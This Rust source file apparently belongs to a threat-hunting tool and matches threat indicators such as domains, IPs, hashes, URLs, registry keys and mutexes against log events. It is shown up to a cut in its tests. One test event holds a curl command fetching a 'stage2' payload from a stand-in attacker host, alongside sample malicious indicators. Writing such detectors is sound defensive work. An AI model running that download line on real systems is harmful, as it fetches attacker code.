//! Matching indicators against every field of every event, in one pass
//! over each field's text whatever the number of indicators:
//!
//! - the text is cut into runs of name characters (letters, digits, `.`,
//!   `-`, `_`, `@`, `+`); each run, and each part of it after a dot, is
//!   looked up in hash maps of domains, file names and e-mail addresses;
//!   its hex tokens of 32, 40 or 64 digits in the map of hashes; a run that
//!   is an address in the map of addresses and the sorted CIDR ranges;
//! - a URL is looked up by its host (a run of its own) and then checked
//!   whole in the field's text;
//! - values with other characters (registry keys, accounts, mutexes, file
//!   names with spaces, URLs without a plain host) go through one
//!   Aho-Corasick automaton, kept small because the bulk of a feed (hashes,
//!   domains, addresses, URLs) never enters it.
//!
//! Matches are whole tokens and ignore case (except mutex names).

use std::net::IpAddr;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use crrt_intel::{Kind, Observable};
use ipnet::IpNet;
use serde_json::Value;

use crate::keytable::{EMPTY, Slot, Table};
use crate::record::{Fields, Record};

/// One indicator to look for, with the name findings give it.
#[derive(Debug, Clone)]
pub struct IndicatorSpec {
    /// Its id where it is kept (the platform's), or the value itself.
    pub id: String,
    pub observable: Observable,
    pub tags: Vec<String>,
}

/// An indicator of a set, as findings name it.
#[derive(Debug, Clone, Copy)]
pub struct SpecRef<'a> {
    pub id: &'a str,
    pub kind: Kind,
    pub value: &'a str,
    tags: &'a [Span],
    text: &'a str,
}

impl<'a> SpecRef<'a> {
    pub fn tags(&self) -> impl Iterator<Item = &'a str> + use<'a> {
        let text = self.text;
        self.tags.iter().map(move |s| s.of(text))
    }
}

/// A range of [`Specs::text`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct Span {
    start: usize,
    len: usize,
}

impl Span {
    fn of(self, text: &str) -> &str {
        text.get(self.start..self.start + self.len)
            .unwrap_or_default()
    }
}

#[derive(Debug, Clone, Copy)]
struct Entry {
    kind: Kind,
    value: Span,
    id: Span,
    /// The entry's range of [`Specs::tags`].
    tags: (u32, u32),
}

/// The indicators as one text and fixed-size entries: a cached set is
/// loaded with a few copies, not 100,000 small strings.
#[derive(Debug, Default)]
struct Specs {
    text: String,
    entries: Vec<Entry>,
    tags: Vec<Span>,
}

impl Specs {
    fn push_text(&mut self, s: &str) -> Span {
        let span = Span {
            start: self.text.len(),
            len: s.len(),
        };
        self.text.push_str(s);
        span
    }

    fn push(&mut self, spec: &IndicatorSpec) {
        let value = self.push_text(&spec.observable.value);
        // The id is nearly always the value itself.
        let id = if spec.id == spec.observable.value {
            value
        } else {
            self.push_text(&spec.id)
        };
        let first = self.tags.len() as u32;
        for tag in &spec.tags {
            let span = self.push_text(tag);
            self.tags.push(span);
        }
        self.entries.push(Entry {
            kind: spec.observable.kind,
            value,
            id,
            tags: (first, self.tags.len() as u32),
        });
    }

    fn get(&self, n: usize) -> SpecRef<'_> {
        let e = &self.entries[n];
        SpecRef {
            id: e.id.of(&self.text),
            kind: e.kind,
            value: e.value.of(&self.text),
            tags: self
                .tags
                .get(e.tags.0 as usize..e.tags.1 as usize)
                .unwrap_or_default(),
            text: &self.text,
        }
    }

    fn value(&self, n: usize) -> &str {
        self.entries[n].value.of(&self.text)
    }
}

/// What [`IndicatorSet::to_bytes`] writes first.
const CACHE_MAGIC: &[u8; 16] = b"crrt-indicators\n";
/// Bump when what a set holds, or how its keys are made, changes: a
/// cached set of another revision is built again.
const CACHE_REVISION: u64 = 2;
/// A text whose key a cached set records (and a label's): keys from a
/// build whose hashes differ would find nothing.
const KEY_CHECK: &str = "crrt-indicators";

/// What a cached set must begin with, after [`CACHE_MAGIC`].
fn cache_check() -> u64 {
    CACHE_REVISION ^ text_key(KEY_CHECK) ^ label_key("crrt").rotate_left(17)
}

fn put(out: &mut Vec<u8>, n: u64) {
    out.extend(n.to_le_bytes());
}

/// Reads what [`IndicatorSet::to_bytes`] wrote; every read fails cleanly
/// past the end.
struct Reader<'a>(&'a [u8]);

impl<'a> Reader<'a> {
    fn take(&mut self, n: usize) -> Option<&'a [u8]> {
        if self.0.len() < n {
            return None;
        }
        let (head, rest) = self.0.split_at(n);
        self.0 = rest;
        Some(head)
    }
    fn array<const N: usize>(&mut self) -> Option<[u8; N]> {
        self.take(N)?.try_into().ok()
    }
    fn u32(&mut self) -> Option<u32> {
        Some(u32::from_le_bytes(self.array()?))
    }
    fn u64(&mut self) -> Option<u64> {
        Some(u64::from_le_bytes(self.array()?))
    }
    fn u128(&mut self) -> Option<u128> {
        Some(u128::from_le_bytes(self.array()?))
    }
    fn u32s(&mut self, n: usize) -> Option<Vec<u32>> {
        let bytes = self.take(n.checked_mul(4)?)?;
        Some(
            bytes
                .chunks_exact(4)
                .map(|c| u32::from_le_bytes(c.try_into().unwrap_or_default()))
                .collect(),
        )
    }
    /// A count of items of at least `size` bytes each that the bytes left
    /// could hold (a damaged count must not reserve gigabytes).
    fn count(&mut self, size: usize) -> Option<usize> {
        let n = usize::try_from(self.u64()?).ok()?;
        (n.checked_mul(size)? <= self.0.len()).then_some(n)
    }
}

/// A compiled set of indicators, `Send + Sync`, built once per hunt.
pub struct IndicatorSet {
    specs: Specs,
    /// Domains, file names and e-mail addresses by the [`text_key`] of
    /// their lower-cased text, to the first spec with that key;
    /// `same[spec]` chains the others (a hit is confirmed on the value, so
    /// two texts sharing a key cost a comparison, never a false hit).
    names: Table<u64>,
    /// Hex digests, by key.
    hashes: Table<u64>,
    /// URLs by the key of their lower-cased host (`user@host` included,
    /// port not).
    url_hosts: Table<u64>,
    addresses: Table<u128>,
    same: Vec<u32>,
    /// CIDR blocks as (first, last) sorted by first, with the running
    /// maximum of `last`, for a binary search per address.
    ranges: Vec<(u128, u128, u32)>,
    max_last: Vec<u128>,
    /// Everything else, lower-cased; pattern i stands for `other_spec[i]`.
    others: Option<AhoCorasick>,
    other_patterns: Vec<String>,
    other_spec: Vec<u32>,
    /// Whether some name or URL host has neither `.` nor `@` (a file name
    /// without extension, `localhost`): only then are such runs, most of
    /// an event's words, looked up at all.
    dotless: bool,
    /// The keys of the last labels (after the last `.` or `@`) of the
    /// names and URL hosts: a run whose last label is not among them
    /// (`System.Management.Automation`, `$env.Path`) cannot be or end with
    /// one, and is not lowercased nor looked up further.
    labels: Table<u64>,
}

impl std::fmt::Debug for IndicatorSet {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("IndicatorSet")
            .field("indicators", &self.specs.entries.len())
            .field("ranges", &self.ranges.len())
            .field("others", &self.other_spec.len())
            .finish()
    }
}

/// An indicator found in an event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct IndicatorHit {
    pub spec: usize,
    /// The field it was found in (dotted path).
    pub field: String,
}

fn as_u128(ip: IpAddr) -> u128 {
    match ip {
        // IPv4 in the IPv4-mapped IPv6 space, so both share one order.
        IpAddr::V4(v4) => u128::from(v4.to_ipv6_mapped()),
        IpAddr::V6(v6) => u128::from(v6),
    }
}

/// The map key of a lower-cased text (a fixed seed: cached sets keep
/// keys, and [`IndicatorSet::from_bytes`] checks they still agree).
fn text_key(lower: &str) -> u64 {
    use std::hash::BuildHasher;
    foldhash::fast::FixedState::with_seed(0x0c22_7a7e).hash_one(lower)
}

/// The key of a last label in any case. Most labels (`exe`, `com`) fit
/// in eight bytes: packed lower-cased, they need no hash (the multiply and
/// shift, both invertible, spread them over the table). Longer ones are
/// hashed; a packed key equal to a hash only costs a lookup more.
fn label_key(label: &str) -> u64 {
    let bytes = label.as_bytes();
    let packed = if bytes.len() <= 8 {
        bytes
            .iter()
            .fold(0u64, |k, b| (k << 8) | u64::from(b.to_ascii_lowercase()))
    } else {
        let mut buf = [0u8; 64];
        let Some(buf) = buf.get_mut(..bytes.len()) else {
            // Only ever asked when building, of a lower-cased label.
            return text_key(label);
        };
        buf.copy_from_slice(bytes);
        buf.make_ascii_lowercase();
        return text_key(std::str::from_utf8(buf).unwrap_or(label));
    };
    let h = packed.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    h ^ (h >> 32)
}

const fn name_char(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b'@' | b'+')
}

/// Byte classes for the scan of a field: one table load per byte.
const NAME: u8 = 1;
const ALNUM: u8 = 2;
const HEX: u8 = 4;
/// `.` or `@`: a run with one may be a domain, file name or address.
const MARK: u8 = 8;
/// `:`, which every IPv6 address has.
const COLON: u8 = 16;

static CLASS: [u8; 256] = {
    let mut class = [0u8; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        if name_char(c) {
            class[b] |= NAME;
        }
        if c.is_ascii_alphanumeric() {
            class[b] |= ALNUM;
        }
        if c.is_ascii_hexdigit() {
            class[b] |= HEX;
        }
        if c == b'.' || c == b'@' {
            class[b] |= MARK;
        }
        if c == b':' {
            class[b] |= COLON;
        }
        b += 1;
    }
    class
};

/// What follows the last `.` or `@` (the whole text without either).
fn last_label(text: &str) -> &str {
    match text.bytes().rposition(|b| b == b'.' || b == b'@') {
        Some(at) => &text[at + 1..],
        None => text,
    }
}

impl IndicatorSet {
    pub fn new(specs: Vec<IndicatorSpec>) -> IndicatorSet {
        let mut set = IndicatorSet {
            specs: Specs::default(),
            names: Table::with_capacity(specs.len() / 2),
            hashes: Table::with_capacity(specs.len() / 2),
            url_hosts: Table::with_capacity(0),
            addresses: Table::with_capacity(specs.len() / 4),
            same: Vec::with_capacity(specs.len()),
            ranges: Vec::new(),
            max_last: Vec::new(),
            others: None,
            other_patterns: Vec::new(),
            other_spec: Vec::new(),
            dotless: false,
            labels: Table::with_capacity(0),
        };
        // Keeps the first spec per key and chains the others behind it
        // (always forward: `n` is the newest).
        fn add<K: Slot>(table: &mut Table<K>, same: &mut [u32], key: K, n: u32) {
            if let Some(mut at) = table.insert(key, n) {
                while same[at as usize] != EMPTY {
                    at = same[at as usize];
                }
                same[at as usize] = n;
            }
        }
        let mut lower = String::new();
        for spec in &specs {
            // Spec numbers are `u32`: four billion indicators would not
            // fit in memory long before.
            let Ok(n) = u32::try_from(set.same.len()) else {
                break;
            };
            set.specs.push(spec);
            set.same.push(EMPTY);
            let value = &spec.observable.value;
            lower.clear();
            lower.push_str(value);
            lower.make_ascii_lowercase();
            match spec.observable.kind {
                Kind::Md5 | Kind::Sha1 | Kind::Sha256 | Kind::Ja3 => {
                    add(&mut set.hashes, &mut set.same, text_key(&lower), n);
                }
                Kind::Ipv4 | Kind::Ipv6 => {
                    if let Ok(ip) = value.parse::<IpAddr>() {
                        add(&mut set.addresses, &mut set.same, as_u128(ip), n);
                    }
                }
                Kind::Cidr => {
                    if let Ok(net) = value.parse::<IpNet>() {
                        let (first, last) = match net {
                            IpNet::V4(v4) => (
                                as_u128(IpAddr::V4(v4.network())),
                                as_u128(IpAddr::V4(v4.broadcast())),
                            ),
                            IpNet::V6(v6) => (
                                as_u128(IpAddr::V6(v6.network())),
                                as_u128(IpAddr::V6(v6.broadcast())),
                            ),
                        };
                        set.ranges.push((first, last, n));
                    }
                }
                Kind::Domain | Kind::Email | Kind::FileName if value.bytes().all(name_char) => {
                    set.dotless |= !lower.contains(['.', '@']);
                    set.labels.insert(label_key(last_label(&lower)), 0);
                    add(&mut set.names, &mut set.same, text_key(&lower), n);
                }
                Kind::Url if let Some(host) = url_host(&lower) => {
                    set.dotless |= !host.contains(['.', '@']);
                    set.labels.insert(label_key(last_label(host)), 0);
                    add(&mut set.url_hosts, &mut set.same, text_key(host), n);
                }
                Kind::RegistryKey => {
                    // Sysmon writes hives abbreviated: HKLM\..., HKU\...
                    set.other_patterns.push(lower.clone());
                    set.other_spec.push(n);
                    for (long, short) in [
                        ("hkey_local_machine\\", "hklm\\"),
                        ("hkey_current_user\\", "hkcu\\"),
                        ("hkey_users\\", "hku\\"),
                        ("hkey_classes_root\\", "hkcr\\"),
                    ] {
                        if let Some(rest) = lower.strip_prefix(long) {
                            set.other_patterns.push(format!("{short}{rest}"));
                            set.other_spec.push(n);
                        }
                    }
                }
                _ => {
                    set.other_patterns.push(lower.clone());
                    set.other_spec.push(n);
                }
            }
        }
        set.ranges.sort_unstable();
        set.finish();
        set
    }

    /// What is derived from the rest: the ranges' running maximum and the
    /// automaton (built, not cached: it holds the few odd values only).
    fn finish(&mut self) {
        let mut running = 0;
        self.max_last = self
            .ranges
            .iter()
            .map(|(_, last, _)| {
                running = running.max(*last);
                running
            })
            .collect();
        self.others = (!self.other_patterns.is_empty())
            .then(|| {
                AhoCorasickBuilder::new()
                    .match_kind(MatchKind::Standard)
                    .build(&self.other_patterns)
                    .ok()
            })
            .flatten();
    }

    /// The set as bytes for a cache; [`IndicatorSet::from_bytes`] reads
    /// them back in a fraction of building it.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = CACHE_MAGIC.to_vec();
        put(&mut out, cache_check());
        put(&mut out, self.specs.text.len() as u64);
        out.extend(self.specs.text.as_bytes());
        put(&mut out, self.specs.entries.len() as u64);
        for e in &self.specs.entries {
            let kind = Kind::ALL.iter().position(|k| *k == e.kind).unwrap_or(0);
            out.push(kind as u8);
            for n in [e.value.start, e.value.len, e.id.start, e.id.len] {
                put(&mut out, n as u64);
            }
            put(&mut out, u64::from(e.tags.0));
            put(&mut out, u64::from(e.tags.1));
        }
        put(&mut out, self.specs.tags.len() as u64);
        for s in &self.specs.tags {
            put(&mut out, s.start as u64);
            put(&mut out, s.len as u64);
        }
        for table in [&self.names, &self.hashes, &self.url_hosts, &self.labels] {
            let (keys, values) = table.parts();
            put(&mut out, keys.len() as u64);
            keys.iter().for_each(|k| out.extend(k.to_le_bytes()));
            values.iter().for_each(|v| out.extend(v.to_le_bytes()));
        }
        let (keys, values) = self.addresses.parts();
        put(&mut out, keys.len() as u64);
        keys.iter().for_each(|k| out.extend(k.to_le_bytes()));
        values.iter().for_each(|v| out.extend(v.to_le_bytes()));
        self.same.iter().for_each(|v| out.extend(v.to_le_bytes()));
        put(&mut out, self.ranges.len() as u64);
        for (first, last, spec) in &self.ranges {
            out.extend(first.to_le_bytes());
            out.extend(last.to_le_bytes());
            out.extend(spec.to_le_bytes());
        }
        put(&mut out, self.other_patterns.len() as u64);
        for (pattern, spec) in self.other_patterns.iter().zip(&self.other_spec) {
            put(&mut out, pattern.len() as u64);
            out.extend(pattern.as_bytes());
            out.extend(spec.to_le_bytes());
        }
        out.push(u8::from(self.dotless));
        out
    }

    /// A set written by [`IndicatorSet::to_bytes`] of this build; `None`
    /// for anything else (truncated, damaged, another build's keys).
    pub fn from_bytes(bytes: &[u8]) -> Option<IndicatorSet> {
        let mut r = Reader(bytes.strip_prefix(CACHE_MAGIC.as_slice())?);
        if r.u64()? != cache_check() {
            return None;
        }
        let n = r.count(1)?;
        let text = std::str::from_utf8(r.take(n)?).ok()?.to_owned();
        let n_specs = r.count(49)?;
        let mut entries = Vec::with_capacity(n_specs);
        for _ in 0..n_specs {
            let kind = *Kind::ALL.get(usize::from(r.take(1)?[0]))?;
            let mut span = || -> Option<Span> {
                let start = usize::try_from(r.u64()?).ok()?;
                let len = usize::try_from(r.u64()?).ok()?;
                // Spans are checked once here; `Span::of` still never panics.
                text.get(start..start.checked_add(len)?)?;
                Some(Span { start, len })
            };
            let (value, id) = (span()?, span()?);
            let tags = (u32::try_from(r.u64()?).ok()?, u32::try_from(r.u64()?).ok()?);
            entries.push(Entry {
                kind,
                value,
                id,
                tags,
            });
        }
        let n_tags = r.count(16)?;
        let mut tags = Vec::with_capacity(n_tags);
        for _ in 0..n_tags {
            let start = usize::try_from(r.u64()?).ok()?;
            let len = usize::try_from(r.u64()?).ok()?;
            text.get(start..start.checked_add(len)?)?;
            tags.push(Span { start, len });
        }
        let in_range = |v: u32| v == EMPTY || (v as usize) < n_specs;
        let table = |r: &mut Reader| -> Option<Table<u64>> {
            let n = r.count(12)?;
            let keys = r.take(n * 8)?.chunks_exact(8);
            let keys = keys.map(|c| u64::from_le_bytes(c.try_into().unwrap_or_default()));
            let values = r.u32s(n)?;
            values.iter().all(|v| in_range(*v)).then_some(())?;
            Table::from_parts(keys.collect(), values)
        };
        let (names, hashes, url_hosts) = (table(&mut r)?, table(&mut r)?, table(&mut r)?);
        let labels = table(&mut r)?;
        let n = r.count(20)?;
        let keys = r.take(n * 16)?.chunks_exact(16);
        let keys = keys.map(|c| u128::from_le_bytes(c.try_into().unwrap_or_default()));
        let values = r.u32s(n)?;
        values.iter().all(|v| in_range(*v)).then_some(())?;
        let addresses = Table::from_parts(keys.collect(), values)?;
        let same = r.u32s(n_specs)?;
        // Chains run forward, so a damaged one cannot loop.
        let forward = |(at, v): (usize, &u32)| *v == EMPTY || (at < *v as usize && in_range(*v));
        same.iter().enumerate().all(forward).then_some(())?;
        let n_ranges = r.count(36)?;
        let mut ranges = Vec::with_capacity(n_ranges);
        for _ in 0..n_ranges {
            let range = (r.u128()?, r.u128()?, r.u32()?);
            ((range.2 as usize) < n_specs).then_some(())?;
            ranges.push(range);
        }
        ranges.is_sorted().then_some(())?;
        let n_others = r.count(12)?;
        let mut other_patterns = Vec::with_capacity(n_others);
        let mut other_spec = Vec::with_capacity(n_others);
        for _ in 0..n_others {
            let n = r.count(1)?;
            other_patterns.push(std::str::from_utf8(r.take(n)?).ok()?.to_owned());
            let spec = r.u32()?;
            ((spec as usize) < n_specs).then_some(())?;
            other_spec.push(spec);
        }
        let dotless = match r.take(1)? {
            [0] => false,
            [1] => true,
            _ => return None,
        };
        if !r.0.is_empty() {
            return None;
        }
        let mut set = IndicatorSet {
            specs: Specs {
                text,
                entries,
                tags,
            },
            names,
            hashes,
            url_hosts,
            addresses,
            same,
            ranges,
            max_last: Vec::new(),
            others: None,
            other_patterns,
            other_spec,
            dotless,
            labels,
        };
        set.finish();
        Some(set)
    }

    pub fn len(&self) -> usize {
        self.specs.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.specs.entries.is_empty()
    }

    pub fn spec(&self, n: usize) -> SpecRef<'_> {
        self.specs.get(n)
    }

    /// Every indicator in the record, once each, with the first field it
    /// was found in.
    pub fn find(&self, record: &Record) -> Vec<IndicatorHit> {
        let mut hits: Vec<IndicatorHit> = Vec::new();
        let mut scratch = Scratch::default();
        let mut path = Vec::new();
        match &record.fields {
            Fields::Json(value) => self.walk(value, &mut path, &mut hits, &mut scratch),
            Fields::Flat(list) => {
                for (key, value) in list {
                    path.push(key);
                    self.walk(value, &mut path, &mut hits, &mut scratch);
                    path.pop();
                }
            }
        }
        hits
    }

    /// `path` holds the keys down to `value`, joined only for a hit.
    fn walk<'v>(
        &self,
        value: &'v Value,
        path: &mut Vec<&'v str>,
        hits: &mut Vec<IndicatorHit>,
        scratch: &mut Scratch,
    ) {
        match value {
            Value::String(text) => self.field(text, path, hits, scratch),
            Value::Object(map) => {
                for (key, inner) in map {
                    path.push(key);
                    // Most fields are strings: no call for them.
                    match inner {
                        Value::String(text) => self.field(text, path, hits, scratch),
                        Value::Object(_) | Value::Array(_) => self.walk(inner, path, hits, scratch),
                        _ => {}
                    }
                    path.pop();
                }
            }
            Value::Array(items) => {
                for item in items {
                    self.walk(item, path, hits, scratch);
                }
            }
            _ => {}
        }
    }

    fn field(
        &self,
        text: &str,
        path: &[&str],
        hits: &mut Vec<IndicatorHit>,
        scratch: &mut Scratch,
    ) {
        scratch.found.clear();
        self.find_in(text, scratch);
        for &spec in &scratch.found {
            if !hits.iter().any(|h| h.spec == spec) {
                hits.push(IndicatorHit {
                    spec,
                    field: path.join("."),
                });
            }
        }
    }

    fn find_in(&self, text: &str, scratch: &mut Scratch) {
        let bytes = text.as_bytes();
        scratch.urls.clear();
        let digests = !self.hashes.is_empty();
        // One pass over the bytes: runs of name characters, and within
        // them the alphanumeric tokens a digest would be.
        let mut i = 0;
        // The classes of the bytes between runs (a colon is one).
        let mut between = 0;
        while i < bytes.len() {
            let class = CLASS[usize::from(bytes[i])];
            if class & NAME == 0 {
                between |= class;
                i += 1;
                continue;
            }
            let start = i;
            let mut marked = false;
            let mut token = i;
            loop {
                while i < bytes.len() && CLASS[usize::from(bytes[i])] & ALNUM != 0 {
                    i += 1;
                }
                // Whether a token is hex is asked only of the few with a
                // digest's length, not tracked byte by byte.
                if digests
                    && matches!(i - token, 32 | 40 | 64)
                    && bytes[token..i]
                        .iter()
                        .all(|&b| CLASS[usize::from(b)] & HEX != 0)
                {
                    self.digest(&bytes[token..i], scratch);
                }
                let class = bytes.get(i).map_or(0, |b| CLASS[usize::from(*b)]);
                if class & NAME == 0 {
                    break;
                }
                marked |= class & MARK != 0;
                i += 1;
                token = i;
            }
            // A run without `.` or `@` is neither a name (unless some are
            // dotless) nor an address: most of an event's words.
            if marked || self.dotless {
                self.run(&text[start..i], marked, scratch);
            }
        }
        if (!self.addresses.is_empty() || !self.ranges.is_empty()) && between & COLON != 0 {
            self.ipv6_runs(text, scratch);
        }
        let token = |b: u8| b.is_ascii_alphanumeric();
        if !scratch.urls.is_empty() {
            // A URL whose host is in the text: is the whole URL there too?
            scratch.lower.clear();
            scratch.lower.push_str(text);
            scratch.lower.make_ascii_lowercase();
            let lower = scratch.lower.as_bytes();
            for &spec in &scratch.urls {
                let url = self.specs.value(spec).to_ascii_lowercase();
                let whole = memchr::memmem::find_iter(lower, url.as_bytes()).any(|at| {
                    let end = at + url.len();
                    (at == 0 || !token(lower[at - 1])) && (end == lower.len() || !token(lower[end]))
                });
                if whole && !scratch.found.contains(&spec) {
                    scratch.found.push(spec);
                }
            }
        }
        if let Some(others) = &self.others {
            scratch.lower.clear();
            scratch.lower.push_str(text);
            scratch.lower.make_ascii_lowercase();
            for m in others.find_overlapping_iter(scratch.lower.as_str()) {
                let spec = self.other_spec[m.pattern().as_usize()] as usize;
                let whole = (m.start() == 0 || !token(bytes[m.start() - 1]))
                    && (m.end() == bytes.len() || !token(bytes[m.end()]));
                // Mutex names are the one kind compared with case.
                let exact = self.specs.entries[spec].kind != Kind::Mutex
                    || text[m.start()..m.end()] == *self.specs.value(spec);
                if whole && exact {
                    scratch.found.push(spec);
                }
            }
        }
    }

    /// One run of name characters; `marked` if it has a `.` or `@`.
    fn run(&self, run: &str, marked: bool, scratch: &mut Scratch) {
        // A sentence's full stop is not part of a name (bytes, not chars:
        // a run is ASCII).
        let end = run.bytes().rposition(|b| b != b'.').map_or(0, |at| at + 1);
        let run = &run[..end];
        if run.is_empty() {
            return;
        }
        if (!self.names.is_empty() || !self.url_hosts.is_empty())
            && (self.dotless || marked)
            && self.may_name(run)
        {
            scratch.lower.clear();
            scratch.lower.push_str(run);
            scratch.lower.make_ascii_lowercase();
            let lower = scratch.lower.as_str();
            // The whole run, its domain part after an `@`, and each part
            // after a dot (a subdomain reaches its parent domain).
            let mut look = |candidate: &str| {
                if let Some(first) = self.names.get(text_key(candidate)) {
                    self.chain_equal(first, candidate, &mut scratch.found);
                }
            };
            look(lower);
            if let Some(first) = self.url_hosts.get(text_key(lower)) {
                // Confirmed later, on the whole URL.
                self.chain(first, &mut scratch.urls);
            }
            let host = lower.rsplit_once('@').map_or(lower, |(_, h)| h);
            if host.len() != lower.len() {
                look(host);
            }
            for (at, _) in host.match_indices('.') {
                look(&host[at + 1..]);
            }
        }
        // Only a run of four dotted parts is parsed (numbers such as
        // event ids and sizes were 5% of a hunt's indicator work).
        if (!self.addresses.is_empty() || !self.ranges.is_empty())
            && marked
            && run.len() <= 15
            && run.as_bytes()[0].is_ascii_digit()
            && run.bytes().filter(|&b| b == b'.').count() == 3
            && let Ok(ip) = run.parse::<std::net::Ipv4Addr>()
        {
            self.address(IpAddr::V4(ip), scratch);
        }
    }

    /// Whether the run's last label is one a name or URL host ends with.
    fn may_name(&self, run: &str) -> bool {
        let label = last_label(run);
        // Longer than any label worth a filter: look it up.
        label.len() > 64 || self.labels.get(label_key(label)).is_some()
    }

    /// A token of 32, 40 or 64 hex digits.
    fn digest(&self, token: &[u8], scratch: &mut Scratch) {
        let mut buf = [0u8; 64];
        let buf = &mut buf[..token.len()];
        buf.copy_from_slice(token);
        buf.make_ascii_lowercase();
        let lower = std::str::from_utf8(buf).unwrap_or_default();
        if let Some(first) = self.hashes.get(text_key(lower)) {
            self.chain_equal(first, lower, &mut scratch.found);
        }
    }

    /// IPv6 addresses: runs of hex digits, colons and dots with two colons
    /// or more. Only the runs around colons are looked at (found with
    /// `memchr`): walking every byte of every value that has a colon (a
    /// time, a `C:` path) was 4% of a hunt's indicator work.
    fn ipv6_runs(&self, text: &str, scratch: &mut Scratch) {
        let part = |b: u8| b.is_ascii_hexdigit() || b == b':' || b == b'.';
        let bytes = text.as_bytes();
        // Bytes before this one belong to a run already looked at.
        let mut seen = 0;
        for colon in memchr::memchr_iter(b':', bytes) {
            if colon < seen {
                continue;
            }
            let mut start = colon;
            while start > seen && part(bytes[start - 1]) {
                start -= 1;
            }
            let mut end = colon + 1;
            while end < bytes.len() && part(bytes[end]) {
                end += 1;
            }
            seen = end;
            let run = &text[start..end];
            if run.len() >= 3
                && run.bytes().filter(|b| *b == b':').count() >= 2
                && let Ok(ip) = run.parse::<std::net::Ipv6Addr>()
            {
                self.address(IpAddr::V6(ip), scratch);
            }
        }
    }

    /// The specs chained under a key whose value is `lower` (ignoring
    /// ASCII case).
    fn chain_equal(&self, first: u32, lower: &str, found: &mut Vec<usize>) {
        let mut at = first;
        while at != EMPTY {
            if self.specs.value(at as usize).eq_ignore_ascii_case(lower) {
                found.push(at as usize);
            }
            at = self.same[at as usize];
        }
    }

    /// A spec and the others chained behind it under the same key.
    fn chain(&self, first: u32, found: &mut Vec<usize>) {
        let mut at = first;
        while at != EMPTY {
            found.push(at as usize);
            at = self.same[at as usize];
        }
    }

    fn address(&self, ip: IpAddr, scratch: &mut Scratch) {
        let ip = as_u128(ip);
        if let Some(first) = self.addresses.get(ip) {
            self.chain(first, &mut scratch.found);
        }
        // Ranges starting at or before the address; walk back while an
        // earlier one may still reach it.
        let mut i = self.ranges.partition_point(|(first, _, _)| *first <= ip);
        while i > 0 && self.max_last[i - 1] >= ip {
            i -= 1;
            let (first, last, spec) = self.ranges[i];
            if first <= ip && ip <= last {
                scratch.found.push(spec as usize);
            }
        }
    }
}

/// Buffers reused across the fields of one record.
#[derive(Default)]
struct Scratch {
    lower: String,
    found: Vec<usize>,
    /// URLs whose host is in the current field, to be checked whole.
    urls: Vec<usize>,
}

/// The host a URL is looked up by (its authority without the port), when
/// it is one run of name characters as the text scan cuts them.
fn url_host(lower: &str) -> Option<&str> {
    let (_, rest) = lower.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = match authority.rsplit_once(':') {
        Some((host, port)) if port.bytes().all(|b| b.is_ascii_digit()) => host,
        _ => authority,
    };
    (!host.is_empty()
        && host.bytes().all(name_char)
        && !host.ends_with('.')
        && !host.starts_with('.'))
    .then_some(host)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::RecordKind;

    fn set(lines: &[&str]) -> IndicatorSet {
        IndicatorSet::new(
            lines
                .iter()
                .map(|l| IndicatorSpec {
                    id: (*l).to_owned(),
                    observable: Observable::parse_line(l).expect("valid"),
                    tags: Vec::new(),
                })
                .collect(),
        )
    }

    fn found(set: &IndicatorSet, fields: Value) -> Vec<String> {
        let record = Record {
            kind: RecordKind::Json,
            fields: crate::record::Fields::Json(fields),
            timestamp: None,
            position: 1,
        };
        set.find(&record)
            .into_iter()
            .map(|h| format!("{}@{}", set.spec(h.spec).id, h.field))
            .collect()
    }

    #[test]
    fn whole_tokens_any_case_any_field() {
        let s = set(&[
            "evil.example",
            "185.61.137.4",
            "a196c6b8ffcb97ffb276d04f354696e2391311db3841ae16c8c9f56f36a38e92",
            "10.66.0.0/16",
            r"mutex:Global\WG",
            r"HKLM\SYSTEM\CurrentControlSet\Services\EaseUS",
        ]);
        assert_eq!(
            found(&s, serde_json::json!({"a": {"Query": "C2.EVIL.EXAMPLE"}})),
            ["evil.example@a.Query"]
        );
        assert!(found(&s, serde_json::json!({"q": "notevil.example"})).is_empty());
        assert!(found(&s, serde_json::json!({"ip": "185.61.137.45"})).is_empty());
        assert_eq!(
            found(&s, serde_json::json!({"cmd": "ping 185.61.137.4 -n 1"})),
            ["185.61.137.4@cmd"]
        );
        assert_eq!(
            found(&s, serde_json::json!({"Hashes": "SHA256=A196C6B8FFCB97FFB276D04F354696E2391311DB3841AE16C8C9F56F36A38E92"})).len(),
            1
        );
        assert_eq!(
            found(&s, serde_json::json!({"DestinationIp": "10.66.12.7"})),
            ["10.66.0.0/16@DestinationIp"]
        );
        assert!(found(&s, serde_json::json!({"DestinationIp": "10.67.0.1"})).is_empty());
        assert!(
            found(&s, serde_json::json!({"m": "global\\wg"})).is_empty(),
            "mutex case"
        );
        assert_eq!(found(&s, serde_json::json!({"m": "Global\\WG"})).len(), 1);
        assert_eq!(
            found(&s, serde_json::json!({"TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\EaseUS\\ImagePath"})).len(),
            1,
            "the abbreviated hive"
        );
        assert_eq!(
            found(
                &s,
                serde_json::json!({"x": ["evil.example", "evil.example"]})
            )
            .len(),
            1,
            "once per record"
        );
    }

    #[test]
    fn urls_by_host_then_whole() {
        let s = set(&[
            "hxxp://evil[.]example/stage2",
            "http://evil.example:8080/panel",
            "https://drop.example",
            "http://[2001:db8::1]/x",
            "http://bob@mail.example/inbox",
        ]);
        assert_eq!(
            found(
                &s,
                serde_json::json!({"cmd": "curl HTTP://EVIL.EXAMPLE/Stage2 -o x"})
            ),
            ["hxxp://evil[.]example/stage2@cmd"]
        );
        // The host alone, or the URL inside a longer token, is not the URL.
        assert!(found(&s, serde_json::json!({"q": "evil.example"})).is_empty());
        assert!(found(&s, serde_json::json!({"q": "http://evil.example/stage23"})).is_empty());
